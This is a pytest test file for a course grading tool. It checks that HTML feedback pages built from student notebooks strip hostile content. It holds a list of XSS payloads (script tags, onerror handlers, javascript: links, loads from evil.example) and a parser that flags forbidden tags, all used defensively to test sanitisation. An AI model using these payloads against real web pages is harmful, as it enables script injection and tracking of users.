"""Feedback shows answers and messages; nothing in it runs, asks the network or tells a secret."""

import base64
import re
import shutil
from html.parser import HTMLParser

import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
from nbgrader.api import Gradebook
from toy_course import ERROR, TOY, contents, executed, result, submit, toy_course

from course_lib.grading.course import CourseProblem
from course_lib.grading.feedback import feedback
from course_lib.grading.pages import POLICY, page, safe_body
from course_lib.grading.records.recording import Recorder

SLOW = 300_000  # milliseconds that a browser may take
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n and so on").decode()
EVIL = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/pixel.png'>",
    "<svg/onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/pixel.png)",
    "![x](attachment:gone.png)",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    f"<img src='data:image/svg+xml;base64,{PNG}'>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<style>@import 'http://evil.example/x.css'; body {background: url(//evil.example)}</style>",
    "<p style='background:url(http://evil.example)'>x</p>",
    "<form action='http://evil.example'><input onfocus=alert(1) autofocus></form>",
    "<object data='http://evil.example'></object><embed src='http://evil.example'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'><base href='//evil.example'>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "</pre></div></body></html><script>alert(1)</script>",
    "<scr<body>ipt>alert(1)</scr<body>ipt>",
    "```mermaid\ngraph TD; A-->B; click A 'javascript:alert(1)'\n```",
    "$$</p><script>alert(1)</script>$$",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><script>alert(1)</script>-->",
    "<video><source onerror=alert(1)></video><details open ontoggle=alert(1)>x</details>",
]
VOID = {"script", "iframe", "object", "embed", "svg", "link", "base", "form", "input"}
VOID |= {"video", "audio", "source", "noscript", "template", "button", "textarea", "frame"}
NAME = "<img src=x onerror=alert(1)>"


class Audit(HTMLParser):
    """Collect what a page must not hold."""

    def __init__(self, text):
        super().__init__()
        self.bad, self.metas, self.tags = [], [], []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        if tag == "meta":
            self.metas.append(dict(attrs))
        if tag in VOID:
            self.bad.append(tag)
        for name, value in attrs:
            address = name in ("href", "src", "action", "data", "srcset", "xlink:href", "poster")
            inside = (value or "").startswith(("#", "data:image/png;base64,"))
            if (
                name.startswith("on")
                or (address and not inside)
                or (name == "style" and "url" in value)
            ):
                self.bad.append((tag, name, value))


def outputs_of(text):
    kinds = ["text/html", "application/javascript", "image/svg+xml", "text/markdown", "text/latex"]
    kinds += ["text/vnd.mermaid", "application/vnd.jupyter.widget-view+json"]
    data = dict.fromkeys(kinds, text)
    return [
        new_output("display_data", data={**data, "text/plain": text}),
        new_output("display_data", data={"image/png": text, "image/jpeg": text}),
        new_output(
            "display_data", data={"image/png": PNG}, metadata={"image/png": {"width": text}}
        ),
        new_output("display_data", data={"image/jpeg": PNG}),
        new_output("stream", name="stderr", text=f"\x1b[31m{text}\x1b[0m\x1b]8;;http://e\x07"),
        new_output("error", ename=text, evalue=text, traceback=[text]),
    ]


def hostile(text):
    """A notebook with the text in every place that a student's content reaches."""
    extra = [
        new_markdown_cell(text, attachments={"a.png": {"text/html": text}}),
        new_markdown_cell("![x](attachment:a.png)"),
        new_raw_cell(text, metadata={"raw_mimetype": "text/html"}),
        new_code_cell(f"x = '''{text}'''", outputs=outputs_of(text)),
    ]
    notebook = executed(text, double=[ERROR, *outputs_of(text)[:2]], extra=extra)
    notebook["cells"][-1]["metadata"] = {"tags": ['"><script>']}
    notebook["metadata"]["title"] = text
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"x": text}}
    notebook["metadata"]["language_info"] = {"name": text, "pygments_lexer": text}
    return notebook


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A course with an honest student, a refused one and one who tries everything."""
    course = toy_course(tmp_path_factory.mktemp("course"))
    recorder = Recorder(course, TOY)
    recorder.register()
    evil = "\n\n".join(EVIL)
    made = [
        result("honest", executed("$a<b$ and\n\n> a quote", double=[ERROR]), notes=["mended"]),
        result("refused", state="malformed", reason=f"not a notebook {NAME}", notes=[NAME]),
        result(NAME, hostile(evil), reason=NAME, notes=[NAME]),
        result("markers", executed("### BEGIN HIDDEN TESTS in an answer")),
    ]
    for each in made:
        (submit(course, each.student) / "evil.html").write_text("<script>alert(1)</script>")
        recorder.results.put(each)
        recorder.record(each)
    submit(course, "new")
    submit(course, "waiting")
    recorder.results.put(result("waiting", executed()))
    return course


@pytest.fixture(scope="module")
def pages(course):
    return {path.parent.parent.name: path for path in feedback(course, TOY)}


def test_each_recorded_submission_has_a_page_and_nothing_else(course, pages):
    assert set(pages) == {"honest", "refused", NAME, "markers"}
    written = {path for path in (course.root / "feedback").rglob("*") if path.is_file()}
    assert written == set(pages.values())
    assert {path.name for path in written} == {"toy.html"}


@pytest.mark.parametrize("student", ["honest", "refused", NAME, "markers"])
def test_no_page_holds_anything_that_runs_or_loads(pages, student):
    text = pages[student].read_text()
    audit = Audit(text)
    assert audit.bad == []
    assert audit.tags[:3] == ["html", "head", "meta"]
    assert audit.metas[0] == {"http-equiv": "Content-Security-Policy", "content": POLICY}
    assert not any("refresh" in meta.values() for meta in audit.metas)


@pytest.mark.parametrize("text", EVIL)
def test_each_trick_by_itself_is_harmless(text):
    for made in (
        text,
        f"<p>{text}</p>",
        f'<a name="{text}">',
        f"<pre>{text}",
        f"<img alt='{text}'>",
    ):
        audit = Audit(page(safe_body(f"<body>{made}</body>"), text, ""))
        assert audit.bad == []
        assert "math" not in audit.tags  # but for the formulas that this project draws itself


def test_hidden_tests_are_not_shown(pages):
    for path in pages.values():
        assert "hidden_input" not in path.read_text()
        assert "5081" not in path.read_text()
    assert "another number doubled" in pages["honest"].read_text()


def test_a_student_may_write_the_markers_of_hidden_tests(pages):
    assert "BEGIN HIDDEN TESTS in an answer" in pages["markers"].read_text()


def test_the_box_says_what_became_of_the_submission(pages):
    honest, refused = pages["honest"].read_text(), pages["refused"].read_text()
    assert "<b>graded</b>" in honest
    assert "<li>mended</li>" in honest
    assert "<b>malformed</b>: not a notebook &lt;img" in refused
    assert "Score" in honest
    assert "Score" not in refused


def test_the_contents_name_each_exercise_with_its_points_and_state(pages):
    text = pages["honest"].read_text()
    start = text.index('<table class="contents">')
    rows = re.findall(r"<tr.*?</tr>", text[start : text.index("</table>", start)])
    told = [re.findall(r">([^<>]+)<", row) for row in rows]
    assert told == [["test_double", "2 of 5", "tried"], ["why", "0 of 4", "to be read"]]
    for target in re.findall(r'href="#([^"]+)"', text[start : text.index("</table>", start)]):
        assert f'name="{target}"' in text
    assert "Test cell</a>" not in text


def test_formulas_are_drawn_and_quotes_stay_what_they_are(pages):
    text = pages["honest"].read_text()
    assert "<mi>a</mi><mo>&lt;</mo><mi>b</mi></mrow></math>" in text
    assert "<blockquote>" in text


def test_pictures_are_shown_if_they_are_pictures(pages):
    text = pages[NAME].read_text()
    assert text.count(f'src="data:image/png;base64,{PNG}"') == 1
    assert "image/jpeg" not in text


def test_commands_to_a_terminal_are_gone(pages):
    assert "\x1b" not in pages[NAME].read_text()


def test_points_and_comments_given_by_hand_are_shown(course):
    with Gradebook(f"sqlite:///{course.root}/gradebook.db", "generative-combinations") as book:
        book.find_grade("why", TOY, TOY, "honest").manual_score = 3.5
        book.find_comment("why", TOY, TOY, "honest").manual_comment = "well **said**"
        book.db.commit()
    before = contents(course.root / "feedback" / "refused")
    [path] = feedback(course, TOY, ["honest"])
    assert "Score: 5.5 / 9.0" in path.read_text()
    assert "well <strong>said</strong>" in path.read_text()
    assert contents(course.root / "feedback" / "refused") == before


def test_a_student_who_handed_in_nothing_is_a_problem(course):
    with pytest.raises(CourseProblem, match="nobody"):
        feedback(course, TOY, ["nobody"])


def test_a_refused_resubmission_replaces_the_old_page(tmp_path):
    course = toy_course(tmp_path)
    recorder = Recorder(course, TOY)
    recorder.register()
    submit(course, "ada")
    for each in (
        result("ada", executed()),
        result("ada", version="2", state="malformed", reason="cut off"),
    ):
        recorder.results.put(each)
        recorder.record(each)
        [path] = feedback(course, TOY)
    assert "cut off" in path.read_text()
    assert "Score" not in path.read_text()


def test_what_lies_beside_a_graded_notebook_is_not_touched(course):
    (course.root / "autograded" / "honest" / TOY / "data").symlink_to("nowhere")
    [path] = feedback(course, TOY, ["honest"])
    assert "Score" in path.read_text()
    assert [file.name for file in path.parent.iterdir()] == ["toy.html"]


def test_a_notebook_that_cannot_be_shown_costs_nobody_else_a_page(course):
    broken = course.root / "autograded" / "markers" / TOY / "toy.ipynb"
    broken.chmod(0o644)
    broken.write_text("{")
    students = ["markers", "honest"]
    first, second = (path.read_text() for path in feedback(course, TOY, students))
    assert "<b>graded</b>" in first
    assert "cannot be shown" in first
    assert "Score" in second


def test_a_page_that_takes_for_ever_costs_nobody_else_theirs(tmp_path, monkeypatch):
    monkeypatch.setattr("course_lib.grading.feedback.SECONDS", 15)
    course = toy_course(tmp_path)
    recorder = Recorder(course, TOY)
    recorder.register()
    for student, text in (("ada", "fine"), ("eve", "\\\\\\\\[" * 100_000)):
        submit(course, student)
        recorder.results.put(result(student, executed(text)))
        recorder.record(result(student, executed(text)))
    first, second = (path.read_text() for path in feedback(course, TOY, ["eve", "ada"]))
    assert "cannot be shown" in first
    assert "fine" in second


@pytest.mark.browser
def test_a_browser_runs_nothing_and_asks_for_nothing(pages):
    playwright = pytest.importorskip("playwright.sync_api")
    chromium = shutil.which("chromium") or pytest.skip("no chromium")
    with playwright.sync_playwright() as run:
        browser = run.chromium.launch(executable_path=chromium, args=["--no-sandbox"], timeout=SLOW)
        opened = browser.new_page()
        opened.set_default_timeout(SLOW)
        asked, dialogs = [], []
        opened.on("request", lambda request: asked.append(request.url))
        opened.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        for path in pages.values():
            asked.clear()
            opened.goto(path.as_uri())
            opened.wait_for_timeout(300)
            assert opened.url == path.as_uri()
            assert [url for url in asked if not url.startswith("data:image/png")] == [path.as_uri()]
            assert opened.evaluate("document.scripts.length") == 0
            assert opened.locator("div.box").first.is_visible()
        assert dialogs == []
        browser.close()
